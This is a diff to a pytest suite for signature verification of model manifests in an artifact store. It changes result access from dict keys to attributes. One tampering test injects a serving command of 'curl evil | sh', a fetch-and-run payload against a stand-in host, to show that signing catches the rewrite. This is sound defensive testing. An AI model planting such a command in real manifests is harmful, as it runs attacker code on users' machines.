@@ -42,15 +42,15 @@ def signed(tiny_llama, tmp_path_factory):
 
 def test_a_signed_manifest_pulls_with_its_key(signed, tmp_path):
     res = pull(MODEL, CPU, tmp_path / "m", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=str(signed["pub"]))
-    assert res["signed_by"] and res["build_id"] == signed["build"].build_id
+    assert res.signed_by and res.build_id == signed["build"].build_id
     # what the store holds is an OMS bundle naming the key by its hint, over the files and the manifest's bytes
-    mpath = next(signed["store"].glob(f"manifests/*/gguf-f16/{res['build_id']}.json"))
+    mpath = next(signed["store"].glob(f"manifests/*/gguf-f16/{res.build_id}.json"))
     bundle = oms.parse((signed["store"] / signature_key(str(mpath.relative_to(signed["store"])))).read_bytes(), "sig")
-    assert bundle.hint == res["signed_by"] and len(res["signed_by"]) == 64
+    assert bundle.hint == res.signed_by and len(res.signed_by) == 64
     manifest = json.loads(mpath.read_bytes())
     assert bundle.resources == {**{f["path"]: f["sha256"] for f in manifest["files"]},
                                 oms.MANIFEST_FILE: hashlib.sha256(mpath.read_bytes()).hexdigest()}
-    assert pull(MODEL, CPU, tmp_path / "n", recipe="gguf-f16", store_uri=str(signed["store"]))["signed_by"] is None
+    assert pull(MODEL, CPU, tmp_path / "n", recipe="gguf-f16", store_uri=str(signed["store"])).signed_by is None
 
 
 def test_unsigned_or_foreign_signatures_are_refused(signed, tmp_path):
@@ -60,7 +60,7 @@ def test_unsigned_or_foreign_signatures_are_refused(signed, tmp_path):
         pull(MODEL, CPU, tmp_path / "b", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=str(signed["other"]))
     # several trusted keys: one of them signed it
     both = f"{signed['other']},{signed['pub']}"
-    assert pull(MODEL, CPU, tmp_path / "c", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=both)["signed_by"]
+    assert pull(MODEL, CPU, tmp_path / "c", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=both).signed_by
     assert not any((tmp_path / d).exists() for d in ("a", "b"))
 
 
@@ -71,7 +71,7 @@ def test_tampering_that_fixes_the_ref_sha_is_caught_by_the_signature(signed, tmp
     mpath = rewrite_published_manifest(store, "gguf-f16", lambda doc: doc["serving"][CPU].update(
         command=["sh", "-c", "curl evil | sh"]), signed["build"].build_id)
     # without keys only damage is checked: the consistent rewrite passes (the reason to sign)
-    assert pull(MODEL, CPU, tmp_path / "unverified", recipe="gguf-f16", store_uri=str(store))["serve"].startswith("sh ")
+    assert pull(MODEL, CPU, tmp_path / "unverified", recipe="gguf-f16", store_uri=str(store)).serve.startswith("sh ")
     capsys.readouterr()
     assert main(["pull", MODEL, "--target", CPU, "--recipe", "gguf-f16", "--dest", str(tmp_path / "v"),
                  "--store", str(store), "--trusted-keys", str(signed["pub"])]) == 1
@@ -119,7 +119,7 @@ def test_a_signed_manifest_copied_under_another_build_id_is_refused(signed, tmp_
             pull(spec, CPU, tmp_path / "m", recipe="gguf-f16", store_uri=str(store), trusted=str(signed["pub"]))
     assert not (tmp_path / "m").exists()
     # the genuine build still pulls by its own id
-    assert pull(f"{MODEL}@{v1}", CPU, tmp_path / "ok", store_uri=str(store), trusted=str(signed["pub"]))["build_id"] == v1
+    assert pull(f"{MODEL}@{v1}", CPU, tmp_path / "ok", store_uri=str(store), trusted=str(signed["pub"])).build_id == v1
 
 
 def test_a_signed_manifest_copied_under_another_recipe_is_refused(signed, tmp_path, capsys):
@@ -151,7 +151,7 @@ def test_trusted_keys_that_name_no_key_fail_closed(signed, given, tmp_path, monk
             pull(MODEL, CPU, tmp_path / "b", recipe="gguf-q8_0", store_uri=store)
     assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()
     monkeypatch.setenv("HIVE_AOT_TRUSTED_KEYS", "")  # set but empty: not verifying, as unset
-    assert pull(MODEL, CPU, tmp_path / "c", recipe="gguf-q8_0", store_uri=store)["signed_by"] is None
+    assert pull(MODEL, CPU, tmp_path / "c", recipe="gguf-q8_0", store_uri=store).signed_by is None
 
 
 @pytest.mark.parametrize("special", ["/dev/zero", "fifo", "dir"])
@@ -208,7 +208,7 @@ def test_a_store_signed_before_oms_still_pulls_with_its_ed25519_key(signed, tmp_
     sig = store / signature_key(str(mpath.relative_to(store)))
     sig.write_bytes(legacy_ed25519_signature(mpath.read_bytes(), ed_priv))
     res = pull(MODEL, CPU, tmp_path / "m", recipe="gguf-f16", store_uri=str(store), trusted=f"{signed['pub']},{ed_pub}")
-    assert res["build_id"] == signed["build"].build_id and len(res["signed_by"]) == 16
+    assert res.build_id == signed["build"].build_id and len(res.signed_by) == 16
     with pytest.raises(IntegrityError, match="an Ed25519 signature from before OMS.*not among the trusted keys"):
         pull(MODEL, CPU, tmp_path / "n", recipe="gguf-f16", store_uri=str(store), trusted=str(signed["pub"]))
     rewrite_published_manifest(store, "gguf-f16", lambda doc: doc["serving"][CPU].update(command=["sh"]),
